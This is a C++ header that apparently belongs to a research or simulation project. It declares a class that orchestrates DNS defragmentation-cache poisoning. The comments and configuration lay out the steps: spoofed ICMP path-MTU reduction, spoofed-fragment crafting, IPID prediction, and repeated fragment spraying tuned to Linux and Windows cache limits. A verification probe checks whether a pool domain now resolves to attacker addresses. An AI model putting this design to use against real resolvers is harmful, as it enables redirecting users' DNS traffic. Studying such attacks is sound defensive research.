// Defragmentation-cache poisoning orchestrator (§III + §IV-A option 3).
//
// Pipeline: force a small path MTU at the nameserver (spoofed ICMP) →
// fetch a response template by querying the nameserver directly → craft
// the spoofed second fragment → measure the IPID counter → plant a spray
// of fragments in the victim resolver's defragmentation cache, replanting
// just past each reassembly timeout so a spoofed fragment is always
// waiting when the victim's query for the pool domain (dns::kPoolDomain)
// finally triggers the genuine response. "This approach requires a low attack
// volume which can be completed with only one low bandwidth attacking
// host."
#pragma once

#include <functional>
#include <optional>

#include "attack/fragment_crafter.h"
#include "attack/ipid_predictor.h"

namespace dnstime::attack {

struct PoisonerConfig {
  Ipv4Addr ns_addr;
  Ipv4Addr resolver_addr;
  u16 mtu = 296;
  std::vector<Ipv4Addr> malicious_addrs;
  /// Candidate IPIDs per replant round (bounded by the victim's per-pair
  /// fragment-cache cap: 64 Linux / 100 Windows).
  std::size_t spray_width = 16;
};

class CachePoisoner {
 public:
  CachePoisoner(net::NetStack& attacker, PoisonerConfig config);
  ~CachePoisoner();

  CachePoisoner(const CachePoisoner&) = delete;
  CachePoisoner& operator=(const CachePoisoner&) = delete;

  /// Run the pipeline; `on_armed` fires after the first spray is planted.
  void start(std::function<void()> on_armed = nullptr);
  void stop();

  [[nodiscard]] bool armed() const { return armed_; }
  [[nodiscard]] u64 fragments_planted() const { return planted_; }
  [[nodiscard]] u64 replant_rounds() const { return rounds_; }
  [[nodiscard]] const std::optional<CraftedFragment>& crafted() const {
    return crafted_;
  }
  [[nodiscard]] const IpidPrediction& prediction() const {
    return prediction_;
  }

  /// RD=0 probe against an *open* victim resolver: reports whether `name`
  /// currently resolves (from cache) to one of our malicious addresses.
  void verify_poisoned(const dns::DnsName& name,
                       std::function<void(bool poisoned)> done);

 private:
  void fetch_template();
  void measure_ipid();
  void replant();

  net::NetStack& stack_;
  PoisonerConfig config_;
  Bytes template_response_;
  std::optional<CraftedFragment> crafted_;
  IpidPrediction prediction_;
  std::unique_ptr<IpidProber> prober_;
  sim::EventHandle replant_event_;
  std::function<void()> on_armed_;
  bool running_ = false;
  bool armed_ = false;
  u64 planted_ = 0;
  u64 rounds_ = 0;
};

}  // namespace dnstime::attack
